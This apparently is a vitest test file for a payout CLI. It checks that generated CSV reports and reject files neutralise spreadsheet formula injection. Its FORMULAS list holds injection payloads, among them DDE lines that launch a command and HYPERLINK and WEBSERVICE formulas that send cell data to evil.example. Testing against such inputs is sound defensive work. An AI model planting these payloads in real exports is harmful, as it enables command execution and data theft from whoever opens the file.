import { describe, expect, test } from 'vitest';
import { csv } from '../support/builders.js';
import { workspace } from '../support/cli.js';
import { testService } from '../support/fixtures.js';

/** What a spreadsheet would run. */
const FORMULAS: readonly string[] = [
  '=1+1',
  "=cmd|'/C calc'!A0",
  '=HYPERLINK("https://evil.example?x="&A1,"click")',
  '=WEBSERVICE("https://evil.example")',
  '=DDE("cmd";"/C calc";"x")',
  '+1+1',
  "+cmd|' /C calc'!A0",
  '-1+1',
  "-2+3+cmd|' /C calc'!A0",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  '	=1+1',
  '\r=1+1',
  '\n=1+1',
  '＝1+1',
  '＋1',
  '－1',
  '＠SUM(1)',
  "'=1+1",
  '"=1+1"',
  '=1+1\n=2+2',
];

/** An ID that is a formula is refused. */
function idOf(text: string): string {
  return text.replace(/^\s*=/, '@');
}

/** Cells of RFC 4180. */
function cellsOf(text: string, delimiter: string): string[] {
  const cell = new RegExp(`"((?:[^"]|"")*)"|([^"${delimiter}\\r\\n]+)`, 'g');
  return [...text.matchAll(cell)].map(([, quoted, plain]) => quoted?.replaceAll('""', '"') ?? plain ?? '');
}

describe('no CSV that is written has a cell that a spreadsheet runs', () => {
  const RUN = /^[=+\-@＝＋－＠\t\r\n](?!\d+([.,]\d+)?$)/;

  test('reports and rejects of every delimiter', async () => {
    const ws = workspace();
    const service = await testService({
      respond: ({ n }) =>
        n % 2 === 0
          ? { status: 422, body: `=1+1 ${n}` }
          : { status: 201, body: JSON.stringify({ id: FORMULAS[n % FORMULAS.length] }) },
    });
    for (const [i, delimiter] of [',', ';', '\t', '|'].entries()) {
      const name = `=in${i}.csv`;
      const rows = FORMULAS.map((text, n) => ({
        user_id: `u${n}`,
        amount: n + 1,
        title: text,
        description: text,
        cost_center_key: idOf(text),
        idempotency_key: `${idOf(text)}${n}${delimiter}`,
      }));
      const before = delimiter === ';' ? ['sep=;', '=1+1;＝2'] : [];
      ws.file(name, csv(rows, { delimiter, before }));
      const header = delimiter === ';' ? '--header-line 3' : '';
      const target = `--base-url ${service.url} --yes --batch-id ${name} --send-similar 20`;
      const call = `payout create ${name} ${target} ${header} --overwrite --report r.csv --rejects rejects.csv`;
      const { code, stderr } = await ws.run(call);
      expect(code, stderr).toBe(4);
      const rejects = ws.read('rejects.csv').replace('sep=;\n', '');
      const cells = [...cellsOf(ws.read('r.csv'), ','), ...cellsOf(rejects, delimiter)];
      expect(cells.length).toBeGreaterThan(100);
      expect(cells.filter((cell) => RUN.test(cell))).toEqual([]);
    }
  });
});
